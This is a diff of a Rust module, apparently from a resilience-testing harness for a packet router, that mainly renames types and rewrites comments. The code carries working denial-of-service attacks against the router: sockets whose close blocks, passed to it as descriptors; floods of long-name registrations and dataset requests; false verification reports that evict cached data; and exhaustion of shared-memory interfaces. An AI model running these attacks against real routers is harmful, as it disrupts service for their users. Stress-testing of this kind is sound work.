@@ -10,8 +10,8 @@ use std::path::Path;
 use std::time::Duration;
 
 use namely_memif::{Handshake, Interface, Options, Progress};
+use namely_messages::{Command, ControlParameters, Dataset, Scope};
 use namely_security::{Signer, sha256, sign_interest};
-use namely_wire::mgmt::{Command, ControlParameters, Dataset, Scope};
 use namely_wire::tlv::read_tlv;
 use namely_wire::types::IMPLICIT_DIGEST_COMPONENT;
 use namely_wire::{Component, DataView, InterestBuilder, LpView, Name};
@@ -21,36 +21,36 @@ use rustix::net::{
     SocketType,
 };
 
-use super::pace::{Done, End, name, nonce};
-use crate::attacks::Place;
+use super::pace::{AttackCounts, End, name, nonce};
+use crate::attacks::RouterAddresses;
 
-/// How long a socket's close(2) waits for a peer that does not read.
+/// Maximum time that close(2) of a socket waits for a peer that does not read.
 const LINGER: Duration = Duration::from_secs(5);
 
-/// Messages with descriptors.
+/// Number of messages with descriptors.
 const MESSAGES: u64 = 20;
 
-/// Registrations.
+/// Number of registrations.
 const REGISTRATIONS: u64 = 100_000;
 
-/// Octets of a registered name, about.
+/// Approximate length of a registered name, octets.
 const NAME_OCTETS: usize = 4000;
 
-/// Reports.
+/// Number of reports.
 const REPORTS: u64 = 100_000;
 
-/// Shared-memory interfaces.
+/// Number of shared-memory interfaces.
 const INTERFACES: u64 = 64;
 
-/// Slots of an interface in each direction (log2): large ones until they are refused, then smaller
-/// ones into what is left.
+/// Slots of an interface in each direction (log2). The attack creates large interfaces until one is
+/// refused. Smaller ones then take the remaining memory.
 const RINGS_LOG2: [u8; 4] = [11, 9, 7, 5];
 
 /// Octets of a slot.
 const SLOT_OCTETS: u32 = 9472;
 
-/// Sockets whose close(2) waits, sent to the router, which has to close them.
-pub(super) fn descriptors(place: &Place, end: &End) -> io::Result<Done> {
+/// Sends the router sockets whose close(2) blocks. The router has to close them.
+pub(super) fn descriptors(place: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
     let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
     let (mut kept, mut refused) = (Vec::new(), 0u64);
     let sent = end.spread(MESSAGES, 0.75, |_| {
@@ -60,15 +60,16 @@ pub(super) fn descriptors(place: &Place, end: &End) -> io::Result<Done> {
         let mut ancillary = SendAncillaryBuffer::new(&mut space);
         let descriptors = [slow.as_fd()];
         ancillary.push(SendAncillaryMessage::ScmRights(&descriptors));
-        // The first octets of a packet, so that it is read and the connection stays.
+        // The first octets of a packet. The router reads them, and the connection stays open.
         let octets = [IoSlice::new(&[0x05, 0x20])];
         let result = rustix::net::sendmsg(&connection, &octets, &mut ancillary, SendFlags::NOSIGNAL);
-        kept.push(Kept::Unix(connection));
+        kept.push(OpenSocket::Unix(connection));
         if result.is_err() {
-            // Where the router's sockets take no descriptors, the kernel refuses them here; closing
-            // this end's own would wait. Its peer, which was kept before it, goes first.
+            // If the router's sockets accept no descriptors, the kernel refuses them here. The
+            // attacker's own close(2) would block, so the list drops the socket after its peer,
+            // which is earlier in the list.
             refused += 1;
-            kept.push(Kept::Tcp(slow));
+            kept.push(OpenSocket::Tcp(slow));
         }
         Ok(result.map(|_| ())?)
     });
@@ -76,36 +77,37 @@ pub(super) fn descriptors(place: &Place, end: &End) -> io::Result<Done> {
     Ok(BTreeMap::from([("descriptors", sent), ("refused", refused)]))
 }
 
-/// What stays open until the attack ends.
+/// Sockets that stay open until the attack ends.
 #[expect(dead_code, reason = "it is held, not read")]
-enum Kept {
+enum OpenSocket {
     Unix(UnixStream),
     Tcp(TcpStream),
 }
 
-/// A socket with octets that its peer, which stays, does not read.
-fn slow_to_close(listener: &TcpListener, kept: &mut Vec<Kept>) -> io::Result<TcpStream> {
+/// Returns a socket with unsent octets. Its peer stays open in `kept`, and does not read them.
+fn slow_to_close(listener: &TcpListener, kept: &mut Vec<OpenSocket>) -> io::Result<TcpStream> {
     let mut near = TcpStream::connect(listener.local_addr()?)?;
     let (far, _) = listener.accept()?;
-    kept.push(Kept::Tcp(far));
+    kept.push(OpenSocket::Tcp(far));
     near.set_nonblocking(true)?;
     let chunk = [0; 65_536];
     while near.write(&chunk).is_ok() {}
-    // A socket that does not wait is closed without waiting.
+    // close(2) of a non-blocking socket would not wait.
     near.set_nonblocking(false)?;
     socket2::SockRef::from(&near).set_linger(Some(LINGER))?;
     Ok(near)
 }
 
-/// Registrations of long names and requests for the largest dataset, without waiting for answers.
-pub(super) fn commands(place: &Place, end: &End) -> io::Result<Done> {
+/// Sends registrations of long names and requests for the largest dataset, without waiting for
+/// answers.
+pub(super) fn commands(place: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
     let signer = Signer::digest_sha256();
     let mut connection = UnixStream::connect(&place.unix)?;
     connection.set_nonblocking(true)?;
     let long = "x".repeat(NAME_OCTETS);
     let mut time_ms = namely_host::clock::unix_ms();
     let mut answers = vec![0; 1 << 20];
-    let mut taken = 0u64;
+    let mut answer_octets = 0u64;
     let sent = end.spread(REGISTRATIONS, 0.95, |n| {
         let prefix = name(&format!("/flood/{n}/{long}"))?;
         let parameters = ControlParameters { name: Some(prefix), ..ControlParameters::default() };
@@ -113,27 +115,27 @@ pub(super) fn commands(place: &Place, end: &End) -> io::Result<Done> {
         let builder = InterestBuilder::new(name).must_be_fresh().nonce(nonce(n));
         time_ms += 1;
         let command = sign_interest(&builder, b"", &signer, time_ms).map_err(io::Error::other)?;
-        send(&mut connection, &command, &mut answers, &mut taken, end)?;
+        send(&mut connection, &command, &mut answers, &mut answer_octets, end)?;
         if n % 16 == 0 {
             let list = Dataset::RibList.prefix(Scope::Localhost);
             let list = InterestBuilder::new(list).can_be_prefix().must_be_fresh().nonce(nonce(!n));
-            send(&mut connection, &list.build(), &mut answers, &mut taken, end)?;
+            send(&mut connection, &list.build(), &mut answers, &mut answer_octets, end)?;
         }
         Ok(())
     });
-    Ok(BTreeMap::from([("registrations", sent), ("answer_octets", taken)]))
+    Ok(BTreeMap::from([("registrations", sent), ("answer_octets", answer_octets)]))
 }
 
-/// Fetches what is cached, and reports each packet as one that verification refuses: it leaves the
-/// content store, and the next who wants it has to wait for the producer.
-pub(super) fn reports(place: &Place, end: &End) -> io::Result<Done> {
+/// Fetches cached Data, and reports each packet as refused by verification. A reported packet is
+/// removed from the content store, so the next consumer has to wait for the producer.
+pub(super) fn reports(place: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
     let mut connection = UnixStream::connect(&place.unix)?;
     connection.set_read_timeout(Some(Duration::from_millis(200)))?;
     let (mut buffer, mut reported) = (Vec::new(), 0u64);
     let fetched = end.spread(REPORTS, 0.95, |n| {
         let segment = name(&place.object)?.join_segment(n % place.segments.max(1));
         connection.write_all(&InterestBuilder::new(segment.clone()).nonce(nonce(n)).build())?;
-        // Answers to reports come in between.
+        // Answers to reports may arrive before the Data.
         let Some(data) = data_named(&mut connection, &mut buffer, &segment, end) else { return Ok(()) };
         let digest = sha256(&data);
         let full = segment.join(Component { typ: IMPLICIT_DIGEST_COMPONENT, value: &digest });
@@ -146,7 +148,7 @@ pub(super) fn reports(place: &Place, end: &End) -> io::Result<Done> {
     Ok(BTreeMap::from([("fetched", fetched), ("reports", reported)]))
 }
 
-/// The next Data of this name, if one comes in time.
+/// Returns the next Data with the name `name`, if it arrives in time.
 fn data_named(connection: &mut UnixStream, buffer: &mut Vec<u8>, name: &Name, end: &End) -> Option<Vec<u8>> {
     let mut chunk = [0; 65_536];
     while end.is_ahead() {
@@ -167,12 +169,12 @@ fn data_named(connection: &mut UnixStream, buffer: &mut Vec<u8>, name: &Name, en
     None
 }
 
-/// Sends all of `octets`, and meanwhile reads what comes.
+/// Sends all of `octets`. Reads and counts incoming octets meanwhile.
 fn send(
     connection: &mut UnixStream,
     octets: &[u8],
     answers: &mut [u8],
-    taken: &mut u64,
+    answer_octets: &mut u64,
     end: &End,
 ) -> io::Result<()> {
     let mut rest = octets;
@@ -184,22 +186,22 @@ fn send(
         }
         match connection.read(answers) {
             Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
-            Ok(n) => *taken += n as u64,
+            Ok(n) => *answer_octets += n as u64,
             Err(_) => {}
         }
     }
     if rest.is_empty() { Ok(()) } else { Err(io::ErrorKind::TimedOut.into()) }
 }
 
-/// Interfaces of as much memory as is admitted, until no more are, and handshakes that stop after
-/// the first message.
-pub(super) fn memory(place: &Place, end: &End) -> io::Result<Done> {
+/// Creates interfaces with as much memory as the router admits, and connections without a
+/// handshake.
+pub(super) fn memory(place: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
     let Some(path) = &place.memif else { return Ok(BTreeMap::new()) };
-    let (mut interfaces, mut halves) = (Vec::new(), Vec::new());
-    let (mut refused, mut begun, mut size) = (0u64, 0u64, 0);
-    while end.is_ahead() && begun < INTERFACES * 20 {
-        begun += 1;
-        halves.extend(socket(path));
+    let (mut interfaces, mut half_open) = (Vec::new(), Vec::new());
+    let (mut refused, mut attempts, mut size) = (0u64, 0u64, 0);
+    while end.is_ahead() && attempts < INTERFACES * 20 {
+        attempts += 1;
+        half_open.extend(socket(path));
         match interface(path, RINGS_LOG2[size]) {
             Ok(interface) => interfaces.push(interface),
             Err(_) => {
@@ -213,7 +215,7 @@ pub(super) fn memory(place: &Place, end: &End) -> io::Result<Done> {
     Ok(BTreeMap::from([
         ("interfaces", interfaces.len() as u64),
         ("refused", refused),
-        ("half_open", halves.len() as u64),
+        ("half_open", half_open.len() as u64),
     ]))
 }
 
